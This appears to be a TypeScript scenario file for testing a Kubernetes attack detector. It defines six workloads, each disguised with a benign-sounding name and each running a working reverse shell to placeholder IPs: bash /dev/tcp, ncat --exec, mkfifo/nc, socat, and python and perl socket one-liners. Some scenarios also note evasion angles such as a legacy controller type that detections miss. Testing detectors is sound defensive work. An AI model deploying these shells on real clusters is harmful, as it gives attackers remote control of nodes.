import type { Actor, Scenario } from '../types.js';
import { compromisedDeveloper, serviceAccountToken } from './actors.js';
import { appsWorkload, container, replicationController, shell } from './manifests.js';
import { applyClientSide, create } from './steps.js';

/** The checkout API's token, used from its own pod after an RCE in the app. */
const checkoutApiToken: Actor = serviceAccountToken({
  namespace: 'checkout',
  serviceAccount: 'checkout-api',
  pod: 'checkout-api-7c9f5d8b4-q7xkz',
  node: 'ip-10-0-45-88.eu-west-1.compute.internal',
  podIP: '10.0.47.23',
  authorizationReason:
    'RBAC: allowed by RoleBinding "checkout-api-edit/checkout" of ClusterRole "edit" to ServiceAccount "checkout-api/checkout"',
});

const base = {
  technique: 'T1053.007',
  kind: 'attack' as const,
  expect: { minSeverity: 'medium' as const },
};

/** Reverse shells, one per way of opening one, spread over every workload kind. */
export const REVERSE_SHELL_SCENARIOS: Scenario[] = [
  {
    ...base,
    technique: 'T1610',
    id: 'rev-shell-bash-dev-tcp-deployment',
    title: 'Deployment looping a bash /dev/tcp reverse shell',
    description:
      'kubectl apply of a Deployment whose container reconnects bash -i >& /dev/tcp every minute.',
    evasionClass: 'bash -i >& /dev/tcp',
    steps: [
      applyClientSide(
        compromisedDeveloper,
        appsWorkload(
          'Deployment',
          { name: 'metrics-sidecar-injector', namespace: 'web' },
          {
            containers: [
              container('injector', 'debian:bookworm-slim', {
                ...shell(
                  'while true; do bash -i >& /dev/tcp/198.51.100.10/443 0>&1; sleep 60; done',
                  '/bin/bash',
                ),
              }),
            ],
          },
          { replicas: 1 },
        ),
        { followUps: 1 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1610',
    id: 'rev-shell-ncat-exec-pod',
    title: 'kubectl run with ncat --exec, from a compromised app pod',
    description:
      "The checkout API's own token runs a bare Pod; kubectl run puts the command after -- in args and leaves the namespace out of the body.",
    evasionClass: 'ncat --exec',
    steps: [
      create(
        checkoutApiToken,
        {
          kind: 'Pod',
          apiVersion: 'v1',
          metadata: { name: 'netcheck', labels: { run: 'netcheck' } },
          spec: {
            containers: [
              {
                name: 'netcheck',
                image: 'alpine:3.19',
                args: [
                  'sh',
                  '-c',
                  'apk add --no-cache nmap-ncat >/dev/null && ncat 203.0.113.47 4444 --exec /bin/sh',
                ],
                resources: {},
              },
            ],
            restartPolicy: 'Never',
            dnsPolicy: 'ClusterFirst',
          },
        },
        {
          namespace: 'checkout',
          fieldManager: 'kubectl-run',
          kubectl:
            "kubectl run netcheck --namespace=checkout --image=alpine:3.19 --restart=Never -- sh -c 'apk add --no-cache nmap-ncat >/dev/null && ncat 203.0.113.47 4444 --exec /bin/sh'",
        },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1610',
    id: 'rev-shell-mkfifo-statefulset',
    title: 'StatefulSet with a mkfifo/nc shell',
    description: 'A named pipe between sh -i and nc, the reverse shell for an nc without -e.',
    evasionClass: 'mkfifo pipe + nc',
    steps: [
      create(
        compromisedDeveloper,
        appsWorkload(
          'StatefulSet',
          { name: 'redis-exporter', namespace: 'data' },
          {
            containers: [
              container('exporter', 'busybox:1.36', {
                ...shell(
                  'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.10 9001 > /tmp/f',
                ),
              }),
            ],
          },
          { replicas: 1, spec: { serviceName: 'redis-exporter' } },
        ),
        { followUps: 1 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1610',
    id: 'rev-shell-socat-daemonset',
    title: 'DaemonSet running socat exec to a remote listener',
    description:
      'The alpine/socat image has socat as its entrypoint, so the pod spec only carries args: exec:/bin/sh and the tcp target. Tolerates every taint to land on every node.',
    evasionClass: 'socat exec (program implied by the image entrypoint)',
    steps: [
      create(
        compromisedDeveloper,
        appsWorkload(
          'DaemonSet',
          { name: 'node-health-agent', namespace: 'monitoring' },
          {
            containers: [
              container('agent', 'alpine/socat:1.7.4.4', {
                args: ['exec:/bin/sh,pty,stderr,setsid,sigint,sane', 'tcp:203.0.113.47:8443'],
              }),
            ],
            tolerations: [{ operator: 'Exists' }],
          },
        ),
        { followUps: 2 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1610',
    id: 'rev-shell-python-replicaset',
    title: 'ReplicaSet with a python socket one-liner',
    description: 'python3 -c with socket, os.dup2 and subprocess.call(["/bin/sh","-i"]).',
    evasionClass: 'python socket one-liner',
    steps: [
      create(
        compromisedDeveloper,
        appsWorkload(
          'ReplicaSet',
          { name: 'pyworker', namespace: 'data' },
          {
            containers: [
              container('worker', 'python:3.11-alpine', {
                command: [
                  'python3',
                  '-c',
                  'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.47",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])',
                ],
              }),
            ],
          },
          { replicas: 1 },
        ),
        { followUps: 1 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1610',
    id: 'rev-shell-perl-replicationcontroller',
    title: 'ReplicationController with a perl socket shell',
    description:
      'The legacy core/v1 controller, which many detections forget, running perl -e with Socket.',
    evasionClass: 'perl socket one-liner',
    steps: [
      create(
        compromisedDeveloper,
        replicationController(
          { name: 'legacy-mailer', namespace: 'default' },
          {
            containers: [
              container('mailer', 'perl:5.38-slim', {
                command: [
                  'perl',
                  '-e',
                  'use Socket;$i="198.51.100.10";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};',
                ],
              }),
            ],
          },
        ),
        { followUps: 1 },
      ),
    ],
  },
];
